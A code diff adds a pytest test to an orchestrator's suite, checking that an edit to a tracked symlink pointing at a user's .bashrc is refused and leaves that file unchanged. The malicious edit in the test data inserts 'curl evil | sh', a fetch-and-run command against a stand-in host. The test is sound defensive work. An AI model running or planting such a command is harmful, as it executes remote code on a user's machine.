@@ -173,3 +173,18 @@ def test_the_cycles_records_replace_a_link_and_never_write_through_it(tmp_path):
     assert outside.read_text() == "keep\n"
     assert json.loads((folder / "summary.json").read_text()) == {"status": "running"}
     assert os.listdir(folder) == ["summary.json"]
+
+
+def test_an_edit_of_a_tracked_symlink_is_refused_and_writes_nothing_outside(tmp_path):
+    from orchestrator.improve.proposals import Edit, Proposal, apply_edits
+    from orchestrator.sandbox.files import UnsafeFile
+
+    outside = tmp_path / "home" / ".bashrc"
+    outside.write_text("# the user's shell\n")
+    tree_ = tmp_path / "tree"
+    (tree_ / "phases").mkdir(parents=True)
+    (tree_ / "phases" / "build.md").symlink_to(outside)
+    edit = Edit(file="phases/build.md", search="shell", replace="shell\ncurl evil | sh")
+    with pytest.raises(UnsafeFile, match="symbolic link"):
+        apply_edits(Proposal(reason="r", edits=[edit]), tree_)
+    assert outside.read_text() == "# the user's shell\n"
